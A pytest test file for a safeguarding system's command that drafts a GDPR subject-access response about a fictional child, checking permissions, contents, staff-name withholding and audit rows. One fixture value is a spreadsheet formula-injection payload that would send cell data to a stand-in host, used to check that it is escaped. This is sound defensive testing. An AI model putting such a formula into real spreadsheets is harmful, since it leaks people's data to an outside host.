"""``ccehub children subject-access PID --out DIR``: a draft answer to "what do you hold about me, and
who has seen it?" (UK GDPR Article 15), for the controller to check before release.

Jamie (the Islington child, held by Islington and the Met) has an identity, an incident recorded by
the Met, a flag recorded by Islington, and an access history across both agencies, with a refused
read by Kent. In-process (CliRunner), real database, no mocks.
"""

from __future__ import annotations

import csv
import json
import os
import stat
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from typer.testing import CliRunner

from ccehub.audit.models import AuditEvent
from ccehub.children.models import CaseHolding
from ccehub.children.selectors import MSG_CHILD_NOT_FOUND, ChildNotFound, child_get

pytestmark = pytest.mark.django_db
LONDON = ZoneInfo("Europe/London")
FILES = {
    "README.txt",
    "record.json",
    "access-history.csv",
    "agencies.csv",
    "agency-records.csv",
    "panel.json",
}
#: A purpose typed on the command line that a spreadsheet would run as a formula.
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


def run(*args):
    from ccehub.cli import app

    return CliRunner().invoke(app, list(args))


def sar(pid, out, *extra):
    return run("children", "subject-access", pid, "--out", str(out), *extra)


def mode(path):
    return stat.S_IMODE(os.stat(path).st_mode)


def rows_of(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def jamie(islington_child, people, agencies, make_user, roles, actor_for):
    """Jamie with an incident (Met), a flag (Islington) and reads by both agencies, a read by a Met
    officer whose purpose starts with ``=``, and a refused read by a Kent officer."""
    from ccehub.agencies.models import DataSharingAgreement
    from ccehub.children.services import vulnerability_flag_set
    from ccehub.incidents.services import incident_record
    from ccehub.records.models import AgencyRecord

    kent = make_user("kent.pc", agencies["kent"], roles.POLICE_OFFICER)
    incident_record(
        actor=actor_for(people["met_pc"]),
        child=islington_child,
        occurred_at=datetime(2024, 3, 1, 21, 0, tzinfo=LONDON),
        incident_type="arrest_pwits",
        arresting_force=agencies["met"],
    )
    vulnerability_flag_set(
        actor=actor_for(people["isl_sw"]),
        child=islington_child,
        factor="domestic_abuse",
        value="recorded_present",
    )
    pid = islington_child.pseudonymous_id
    child_get(actor=actor_for(people["isl_sw"], purpose="Strategy meeting, asked by met.pc"), pid=pid)
    child_get(actor=actor_for(people["met_pc"], channel="cli", purpose=FORMULA), pid=pid)
    with pytest.raises(ChildNotFound):
        child_get(actor=actor_for(kent), pid=pid)
    # Kent sees every child Islington holds under this agreement; Camden never held Jamie.
    DataSharingAgreement.objects.create(
        title="Islington to Kent: county lines",
        provider=agencies["islington"],
        recipient=agencies["kent"],
        purpose="Safeguarding children exploited across the two areas",
        legal_basis="Children Act 2004 s11",
        starts_on=date(2024, 1, 1),
        expires_on=date(2030, 12, 31),
    )
    DataSharingAgreement.objects.create(
        title="Camden to Kent",
        provider=agencies["camden"],
        recipient=agencies["kent"],
        purpose="Camden's children",
        starts_on=date(2024, 1, 1),
        expires_on=date(2030, 12, 31),
    )
    AgencyRecord.objects.create(
        agency=agencies["islington"],
        record_id="ISL-000123",
        given_name="Jamie",
        family_name="Testcase",
        child=islington_child,
    )
    return islington_child


# --- files and permissions ------------------------------------------------------------------------


def test_writes_six_owner_only_files_in_an_owner_only_folder(jamie, tmp_path):
    out = tmp_path / "sar-2024-017"
    result = sar(jamie.pseudonymous_id, out)
    assert result.exit_code == 0, result.output
    assert {p.name for p in out.iterdir()} == FILES
    assert mode(out) == 0o700
    for name in FILES:
        assert mode(out / name) == 0o600, name
    assert str(out) in result.stderr


def test_an_existing_empty_folder_is_used_and_made_owner_only(jamie, tmp_path):
    out = tmp_path / "empty"
    out.mkdir()
    os.chmod(out, 0o755)  # noqa: S103 - a folder others can read, which the command must close
    result = sar(jamie.pseudonymous_id, out)
    assert result.exit_code == 0, result.output
    assert {p.name for p in out.iterdir()} == FILES and mode(out) == 0o700


def test_a_folder_that_is_not_empty_is_refused_and_left_alone(jamie, tmp_path):
    out = tmp_path / "used"
    out.mkdir()
    (out / "record.json").write_text("an earlier response")
    result = sar(jamie.pseudonymous_id, out)
    assert result.exit_code == 2 and "--out" in result.stderr and "not empty" in result.stderr
    assert "Traceback" not in result.output
    assert [p.name for p in out.iterdir()] == ["record.json"]
    assert (out / "record.json").read_text() == "an earlier response"
    assert not AuditEvent.objects.filter(object_type="subject_access").exists()


@pytest.mark.parametrize("inside", [False, True])
def test_a_file_in_the_way_of_the_folder_is_refused(jamie, tmp_path, inside):
    (tmp_path / "a-file").write_text("x")
    out = tmp_path / "a-file" / "sar" if inside else tmp_path / "a-file"
    result = sar(jamie.pseudonymous_id, out)
    assert result.exit_code == 2 and "--out" in result.stderr and "Traceback" not in result.output
    assert (tmp_path / "a-file").read_text() == "x"
    assert not AuditEvent.objects.filter(object_type="subject_access").exists()


# --- contents -------------------------------------------------------------------------------------


def test_record_json_is_the_full_export(jamie, tmp_path, system_actor):
    from django.core.serializers.json import DjangoJSONEncoder

    from ccehub.children.export import child_export

    out = tmp_path / "sar"
    assert sar(jamie.pseudonymous_id, out).exit_code == 0
    written = json.loads((out / "record.json").read_text())
    exported = child_export(actor=system_actor, pid=jamie.pseudonymous_id)
    full = json.loads(json.dumps(exported, cls=DjangoJSONEncoder))
    assert written == full
    assert written["pseudonymised"] is False
    assert (
        written["identity"]["given_name"] == "Jamie" and written["identity"]["date_of_birth"] == "2008-05-01"
    )
    assert written["incidents"][0]["incident_type"] == "arrest_pwits"
    assert written["vulnerabilities"]["domestic_abuse"] == "recorded_present"


def test_the_access_history_is_every_row_about_the_child_oldest_first(jamie, tmp_path):
    out = tmp_path / "sar"
    about = list(AuditEvent.objects.filter(child_pid=jamie.pseudonymous_id).order_by("at", "id"))
    assert sar(jamie.pseudonymous_id, out).exit_code == 0
    rows = rows_of(out / "access-history.csv")
    assert len(rows) == len(about)
    assert list(rows[0]) == [
        "at",
        "agency_code",
        "agency",
        "role",
        "action",
        "object",
        "channel",
        "purpose",
        "basis",
        "fields",
        "detail",
    ]
    assert [r["at"] for r in rows] == sorted(r["at"] for r in rows)
    reads = [r for r in rows if r["action"] == "Viewed"]
    assert {(r["agency_code"], r["agency"], r["role"]) for r in reads} == {
        ("la-islington", "Islington", "Social worker"),
        ("met", "Metropolitan Police Service", "Police officer"),
    }
    assert {r["basis"] for r in reads} == {"own_records"}
    assert "given_name" in reads[0]["fields"].split("; ")
    refused = [r for r in rows if r["action"] == "Access refused"]
    assert [(r["agency_code"], r["role"], r["detail"]) for r in refused] == [
        ("kent", "Police officer", "refused view: no recorded basis")
    ]
    created = [r for r in rows if r["action"] == "Created"]
    assert {r["detail"] for r in created} >= {"domestic_abuse = recorded_present"}
    # The system actor that created the record is named as a role, not by its name or host.
    assert any(r["role"].startswith("System") for r in created)


def test_staff_names_are_withheld_by_default(jamie, tmp_path):
    out = tmp_path / "sar"
    assert sar(jamie.pseudonymous_id, out).exit_code == 0
    text = (out / "access-history.csv").read_text()
    for name in ("isl.sw", "met.pc", "kent.pc", "test-system", "cli:"):
        assert name not in text, name
    purposes = {r["purpose"] for r in rows_of(out / "access-history.csv")}
    assert "Strategy meeting, asked by [staff name withheld]" in purposes
    event = AuditEvent.objects.get(object_type="subject_access")
    assert "staff names withheld" in event.detail


def test_staff_names_are_given_with_the_flag(jamie, tmp_path):
    out = tmp_path / "sar"
    assert sar(jamie.pseudonymous_id, out, "--with-staff-names").exit_code == 0
    rows = rows_of(out / "access-history.csv")
    assert list(rows[0])[:3] == ["at", "username", "agency_code"]
    assert {"isl.sw", "met.pc", "kent.pc"} <= {r["username"] for r in rows}
    assert "Strategy meeting, asked by met.pc" in {r["purpose"] for r in rows}
    event = AuditEvent.objects.get(object_type="subject_access")
    assert "staff names included" in event.detail and "staff_usernames" in event.fields
    assert "Staff usernames are included" in (out / "README.txt").read_text()


def test_a_formula_in_the_audit_log_is_written_as_text(jamie, tmp_path):
    out = tmp_path / "sar"
    assert sar(jamie.pseudonymous_id, out).exit_code == 0
    purposes = [r["purpose"] for r in rows_of(out / "access-history.csv")]
    assert "'" + FORMULA in purposes
    assert not any(p.startswith(("=", "+", "-", "@")) for p in purposes)


def test_agencies_lists_holdings_and_the_agreements_that_covered_the_child(jamie, tmp_path, agencies):
    CaseHolding.objects.filter(child=jamie, agency=agencies["met"]).update(
        ended_on=date(2024, 6, 1), end_reason="Moved away; no open work with the Met"
    )
    out = tmp_path / "sar"
    assert sar(jamie.pseudonymous_id, out).exit_code == 0
    rows = rows_of(out / "agencies.csv")
    holdings = {(r["agency_code"], r["basis"], r["until"]) for r in rows if r["kind"] == "holding"}
    assert ("la-islington", "Home local authority", "") in holdings
    assert ("met", "Home police force", "2024-06-01") in holdings
    met = next(r for r in rows if r["kind"] == "holding" and r["agency_code"] == "met")
    assert "Moved away" in met["note"] and met["agency"] == "Metropolitan Police Service"
    agreements = [r for r in rows if r["kind"] == "data_sharing_agreement"]
    assert [(r["agency_code"], r["shared_by_code"]) for r in agreements] == [("kent", "la-islington")]
    (agreement,) = agreements
    assert agreement["from"] == "2024-01-01" and agreement["until"] == "2030-12-31"
    assert agreement["legal_basis"] == "Children Act 2004 s11"
    assert agreement["basis"].startswith("data_sharing_agreement:")
    assert "Camden" not in (out / "agencies.csv").read_text()


def test_agency_records_linked_to_the_child_are_listed(jamie, tmp_path):
    out = tmp_path / "sar"
    assert sar(jamie.pseudonymous_id, out).exit_code == 0
    rows = rows_of(out / "agency-records.csv")
    assert [(r["agency_code"], r["record_id"], r["linked_by"]) for r in rows] == [
        ("la-islington", "ISL-000123", "child")
    ]


def test_agency_records_the_person_index_puts_with_the_child_are_listed_as_such(jamie, tmp_path, agencies):
    """The look-up shows every record of a person, and names the child a record is linked to: the
    records in the child's person under the active index are listed, marked as the index's match."""
    from ccehub.records.models import AgencyRecord, LinkModelVersion, RecordCluster

    linked = AgencyRecord.objects.get(record_id="ISL-000123")
    custody = AgencyRecord.objects.create(
        agency=agencies["met"], record_id="MET-CUST-9", family_name="Testcase"
    )
    stranger = AgencyRecord.objects.create(
        agency=agencies["met"], record_id="MET-CUST-10", family_name="Other"
    )
    old = LinkModelVersion.objects.create(version="old", active=False)
    active = LinkModelVersion.objects.create(version="new", active=True)
    RecordCluster.objects.create(model=active, record=linked, person_id="p1")
    RecordCluster.objects.create(model=active, record=custody, person_id="p1")
    RecordCluster.objects.create(model=active, record=stranger, person_id="p2")
    RecordCluster.objects.create(model=old, record=linked, person_id="q1")
    RecordCluster.objects.create(model=old, record=stranger, person_id="q1")
    out = tmp_path / "sar"
    assert sar(jamie.pseudonymous_id, out).exit_code == 0
    rows = rows_of(out / "agency-records.csv")
    assert [(r["agency_code"], r["record_id"], r["linked_by"]) for r in rows] == [
        ("la-islington", "ISL-000123", "child"),
        ("met", "MET-CUST-9", "person_index"),
    ]
    assert "1 record linked only by the person index" in (out / "README.txt").read_text()


def test_a_child_never_shared_with_a_panel_has_an_empty_panel_json(jamie, tmp_path):
    """The panel's records are in panel.json (tests/children/test_subject_access_panel.py); a child
    the panel never had still gets the file, saying so."""
    out = tmp_path / "sar"
    assert sar(jamie.pseudonymous_id, out).exit_code == 0
    panel = json.loads((out / "panel.json").read_text())
    assert panel == {
        "pseudonymous_id": jamie.pseudonymous_id,
        "staff_names": "withheld",
        "agencies": {},
        "panel_cases": [],
        "outside_panel_cases": {"referrals": [], "joint_plans": [], "safeguarding_orders": []},
    }
    assert "has not been shared with a CCE panel" in (out / "README.txt").read_text()
    event = AuditEvent.objects.get(object_type="subject_access")
    assert "0 panel cases" in event.detail


def test_the_readme_is_a_draft_cover_note(jamie, tmp_path):
    out = tmp_path / "sar"
    assert sar(jamie.pseudonymous_id, out).exit_code == 0
    text = (out / "README.txt").read_text()
    assert jamie.pseudonymous_id in text
    assert "DRAFT" in text and "not to send unread" in text
    for name in FILES - {"README.txt"}:
        assert name in text, name
    assert "one month" in text
    assert "Staff names are withheld" in text


# --- refusals and the audit row -------------------------------------------------------------------


def test_an_unknown_child_exits_1_like_the_export(agencies, tmp_path):
    out = tmp_path / "sar"
    result = sar("CH-00000-00000", out)
    assert result.exit_code == 1 and MSG_CHILD_NOT_FOUND in result.stderr
    assert "Traceback" not in result.output
    assert not out.exists()
    event = AuditEvent.objects.get(action="denied", child_pid="CH-00000-00000")
    assert event.channel == "cli" and "refused export" in event.detail


def test_the_operator_compile_is_one_export_row(jamie, tmp_path):
    pid = jamie.pseudonymous_id
    last = AuditEvent.objects.order_by("-id").first().id
    about = AuditEvent.objects.filter(child_pid=pid).count()
    result = sar(pid, tmp_path / "sar", "--purpose", "SAR-2024-017 from the child's solicitor")
    assert result.exit_code == 0, result.output
    (event,) = AuditEvent.objects.filter(id__gt=last)
    assert (event.action, event.object_type, event.child_pid) == ("export", "subject_access", pid)
    assert event.channel == "cli" and event.role == "system" and event.origin.startswith("cli:")
    assert event.purpose == "SAR-2024-017 from the child's solicitor" and event.basis == "system"
    assert {"given_name", "incidents", "access_history", "agencies", "agency_records"} <= set(event.fields)
    # The response is the log as it stood when it was compiled: its own row is not in it.
    assert len(rows_of(tmp_path / "sar" / "access-history.csv")) == about


def test_a_user_who_may_export_the_child_compiles_it_as_themselves(jamie, tmp_path, people):
    out = tmp_path / "sar"
    result = sar(jamie.pseudonymous_id, out, "--user", "isl.sw")
    assert result.exit_code == 0, result.output
    event = AuditEvent.objects.get(object_type="subject_access")
    assert (event.username, event.agency_code, event.basis) == ("isl.sw", "la-islington", "own_records")
    assert json.loads((out / "record.json").read_text())["identity"]["family_name"] == "Testcase"


def test_a_user_with_no_basis_is_refused_like_the_export(jamie, tmp_path, agencies, make_user, roles):
    make_user("camden.sw", agencies["camden"], roles.SOCIAL_WORKER)
    out = tmp_path / "sar"
    result = sar(jamie.pseudonymous_id, out, "--user", "camden.sw")
    assert result.exit_code == 1 and MSG_CHILD_NOT_FOUND in result.stderr
    assert not out.exists()
    event = AuditEvent.objects.get(action="denied", username="camden.sw")
    assert event.channel == "cli" and event.detail == "refused export: no recorded basis"
    assert not AuditEvent.objects.filter(object_type="subject_access").exists()


@pytest.mark.parametrize("username", ["isl.analyst", "kent.pc"])
def test_a_user_who_does_not_see_the_identity_is_refused(jamie, tmp_path, people, username):
    """An analyst, or Kent under an agreement without identity, may export the child pseudonymised;
    a response would give them the identity."""
    out = tmp_path / "sar"
    result = sar(jamie.pseudonymous_id, out, "--user", username)
    assert result.exit_code == 1 and "identity" in result.stderr and "Traceback" not in result.output
    assert not out.exists()
    event = AuditEvent.objects.get(object_type="subject_access")
    assert (event.action, event.username, event.child_pid) == ("denied", username, jamie.pseudonymous_id)
    assert event.detail.startswith("refused export:")


def test_a_username_kept_on_a_fact_is_withheld_in_record_json_unless_asked(jamie, tmp_path, people):
    """Who reassessed a placement plan after police protection (F-32) is a reference to a member of
    staff: record.json withholds it with the rest of the staff names."""
    from datetime import timedelta

    from django.utils import timezone

    from ccehub.children.models import PoliceProtection

    began = timezone.now() - timedelta(days=30)
    PoliceProtection.objects.create(
        child=jamie,
        force=jamie.home_police_force,
        officer="PC Pat",
        started_at=began,
        ended_at=began + timedelta(hours=20),
        max_hours=72,
        grounds="Held with a knife at a dealing address",
        disputed_plan="A move to his uncle",
        dispute_reason="The uncle's flat is a dealing base",
        reassessed_on=(began + timedelta(days=1)).date(),
        reassessment_outcome="plan_changed",
        reassessment_notes="A foster placement instead",
        reassessed_by=people["isl_sw"],
    )
    withheld, given = tmp_path / "withheld", tmp_path / "given"
    assert sar(jamie.pseudonymous_id, withheld).exit_code == 0
    assert sar(jamie.pseudonymous_id, given, "--with-staff-names").exit_code == 0
    row = json.loads((withheld / "record.json").read_text())["police_protections"][0]
    assert row["reassessed_by"] == "[staff name withheld]" and row["reassessment_outcome"] == "plan_changed"
    assert (
        json.loads((given / "record.json").read_text())["police_protections"][0]["reassessed_by"] == "isl.sw"
    )
